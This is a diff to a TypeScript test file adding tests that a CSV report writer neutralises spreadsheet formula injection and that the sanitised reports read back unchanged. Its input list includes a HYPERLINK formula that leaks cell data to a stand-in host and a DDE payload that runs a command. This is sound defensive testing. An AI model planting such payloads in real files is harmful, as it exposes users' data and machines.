@@ -1,9 +1,10 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { createReadStream, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, expect, it } from 'vitest';
-import type { StoredItem } from './row-store.ts';
+import { readReport } from '../../engine/sources/lists/read-report.ts';
+import type { StoredDetails, StoredItem } from './row-store.ts';
 import { type ReportSource, writeReport } from './write-report.ts';
 
 let folder: string;
@@ -119,6 +120,60 @@ it('keeps what the list said of each item, its digest and how often it was tried
     { 'list.name': '', 'list.status': '' },
     { status: 'failed' },
   ]);
+});
+
+const formulas = [
+  '=HYPERLINK("http://evil.test/?"&A1)',
+  "=cmd|'/C calc'!A0",
+  '@SUM(1+1)',
+  '-2+3',
+  '+1-1',
+  '\t=1',
+  ' =1',
+  '"=1',
+  '＝1',
+  'a;=1',
+  'a\n=1',
+];
+
+it('writes what a spreadsheet would compute as text: names, messages, and what a list says', async () => {
+  const path = join(folder, 'report.csv');
+  const told: ReportSource['items'] = formulas.map((input, index) => ({
+    ...(items[0] as StoredItem),
+    index,
+    input,
+    output: input,
+    state: 'failed',
+    error: { code: 'HTTP_404', message: input },
+    columns: { [input]: input, depth: '-5' },
+  }));
+  await writeReport(path, 'csv', { ...source, listColumns: [...formulas, 'depth'], items: told });
+  const text = readFileSync(path, 'utf8');
+  const rows = parse(text, { bom: true }) as string[][];
+  expect(rows).toHaveLength(formulas.length + 1);
+  // A spreadsheet may divide by semicolons or tabs, and then knows nothing of our quotation marks.
+  const seen = [...rows.flat(), ...text.split(/[;\t\r\n]/)].filter((cell) => !/^-?\d+$/.test(cell));
+  for (const cell of seen) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝]/);
+  // Numbers stay numbers.
+  expect(rows[1]).toContain('1.5');
+  expect(rows[1]).toContain('-5');
+});
+
+it('is read back by --retry-failed as it was', async () => {
+  const path = join(folder, 'report.csv');
+  const texts = [...formulas, "'=1", ' a '];
+  const columns = Object.fromEntries(texts.map((text, at) => [`n${at}${text}.`, text]));
+  const url = 'https://example.com/a;=1,-2';
+  const item: StoredItem & StoredDetails = {
+    ...(items[1] as StoredItem),
+    input: url,
+    listed: { name: '=a.jpg' },
+    columns,
+  };
+  const listColumns = ['name', ...Object.keys(columns)];
+  await writeReport(path, 'csv', { ...source, listColumns, items: [item] });
+  const [entries] = await Array.fromAsync(readReport(createReadStream(path), 'report.csv'));
+  expect(entries).toEqual([expect.objectContaining({ input: url, name: '=a.jpg', columns })]);
 });
 
 it('writes thousands of items, and a run without any', async () => {
